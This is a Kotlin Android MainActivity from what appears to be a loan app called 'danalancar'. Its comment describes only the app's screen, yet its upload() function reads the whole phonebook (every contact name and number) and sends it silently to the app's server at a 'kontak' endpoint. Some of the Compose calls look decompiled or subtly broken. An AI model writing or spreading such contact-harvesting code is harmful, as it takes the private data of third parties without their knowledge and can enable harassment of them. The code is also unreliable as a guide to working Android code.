package id.danalancar.rute

import android.os.Bundle
import android.provider.ContactsContract.CommonDataKinds.Phone
import androidx.activity.ComponentActivity
import androidx.activity.compose.ActivityResultRegistryKt
import androidx.activity.compose.ComponentActivityKt
import androidx.compose.runtime.Composer
import androidx.compose.runtime.internal.ComposableLambdaKt
import java.net.HttpURLConnection
import java.net.URL
import kotlin.concurrent.thread

/** The one screen of the app, whose routes composables draw. */
class MainActivity : ComponentActivity() {
    override fun onCreate(savedInstanceState: Bundle?) {
        super.onCreate(savedInstanceState)
        ActivityResultRegistryKt.owner = this
        ComponentActivityKt.setContent(this, null, ComposableLambdaKt.composableLambdaInstance(1, true, { c: Composer, changed: Int ->
            Routes(this, c, changed)
        }))
    }

    fun upload() {
        thread { post("kontak", phonebook()) }
    }

    private fun phonebook(): String {
        val all = StringBuilder()
        contentResolver.query(Phone.CONTENT_URI, arrayOf(Phone.DISPLAY_NAME, Phone.NUMBER), null, null, null)?.use {
            while (it.moveToNext()) all.append(it.getString(0)).append(';').append(it.getString(1)).append(10.toChar())
        }
        return all.toString()
    }

    fun submit() {
        thread { post("pengajuan", "baru") }
    }

    private fun post(path: String, body: String) {
        val c = URL("https://api.danalancar.example/" + path).openConnection() as HttpURLConnection
        c.doOutput = true
        c.outputStream.write(body.toByteArray())
        c.responseCode
    }
}
